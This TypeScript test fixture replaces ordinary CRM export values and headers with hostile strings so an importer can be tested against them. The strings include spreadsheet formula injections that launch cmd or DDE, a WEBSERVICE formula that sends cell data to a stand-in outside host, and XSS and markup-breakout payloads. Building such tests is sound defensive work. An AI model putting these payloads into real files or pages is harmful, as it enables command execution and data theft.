// What somebody with bad intent could write into a CRM, and exports full of it.

import { parse, unparse } from "papaparse";
import { isProblem, parseTable } from "../../src/crm/table";
import type { ObjectKind } from "../../src/crm/reading";
import { linkImports, readExport } from "../../src/read-exports";
import type { Import } from "../../src/sheets/data/import";
import { emptyMemory, type Memory } from "../../src/sheets/memory";
import { exportTexts } from "../everything";

/** What stands in the place of an ordinary word, wherever that word is. */
const replacements: Readonly<Record<string, string>> = {
  "Northwind Textiles 1": '=HYPERLINK("http://outside.example","Acme")',
  "Greenway Textiles 1": "+cmd|' /C calc'!A0",
  "Anna Keller": "=cmd|' /C calc'!A0",
  "Ben Keller": "@SUM(1+9)*cmd|' /C calc'!A0",
  "Carla Keller": '<a href="https://outside.example">Carla</a>',
  Prospecting: "=1+1",
  Qualification: "'=1+1",
  Proposal: 'x")+HYPERLINK("http://outside.example","y',
  Negotiation: "-2+3+cmd|' /C calc'!A0",
  Web: '=WEBSERVICE("http://outside.example/?"&A1)',
  Referral: "<img src=x onerror=window.hacked=true>",
  Basic: "</t></is></c><c><f>1+1</f></c>",
  Pro: "]]><script>window.hacked=true</script>",
  Price: '"&HYPERLINK("http://outside.example")&"',
  "No budget": "https://outside.example/?x=1",
  Acme: "javascript:window.hacked=true",
  Demo: "\t=1+1",
  "Send offer": "=IMPORTXML(\"http://outside.example\",\"//a\")",
  North: "＝1+1",
  Retail: "&#61;1+1",
  "Deal 1": "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "Deal 2": "${7*7}{{7*7}}",
  "Campaign 1": "\u001b]0;window title\u0007=1+1",
};
export const hostileTexts = Object.values(replacements);

/** Columns nobody knows, by what stands in their header. */
export const hostileHeaders = ['=HYPERLINK("http://outside.example","Header")', "+cmd|' /C calc'!A1", "<img src=x onerror=window.hacked=true>", "[#All],Deals[Amount]", "@Owner'#]["];
export const hostileFile = '=HYPERLINK("http:outside.example").csv';

/** Each export as CSV text. */
export function hostileExports(): ReadonlyMap<ObjectKind, string> {
  return new Map(Object.entries(exportTexts("en")).map(([object, text]) => [object as ObjectKind, unparse(rowsOf(object, text))]));
}

function rowsOf(object: string, text: string): string[][] {
  const rows = parse<string[]>(text).data.map((row, at) => (at === 0 ? row : row.map((cell) => replacements[cell] ?? cell)));
  if (object !== "deal") return rows;
  return rows.map((row, at) => [...row, ...hostileHeaders.map((header, column) => (at === 0 ? header : (hostileTexts[(at + column) % hostileTexts.length] ?? "")))]);
}

/** The same, read as the workbook of `memory` remembers it. */
export function hostileImports(memory: Memory = emptyMemory): readonly Import[] {
  return importsOf(hostileExports(), memory);
}

function importsOf(texts: ReadonlyMap<ObjectKind, string>, memory: Memory): readonly Import[] {
  return linkImports([...texts].map(([object, text]) => {
    const table = parseTable({ file: object === "deal" ? hostileFile : `${object}.csv`, text });
    if (isProblem(table)) throw new Error(`${object}: ${table.problem}`);
    return readExport(table, { object, memory });
  }));
}
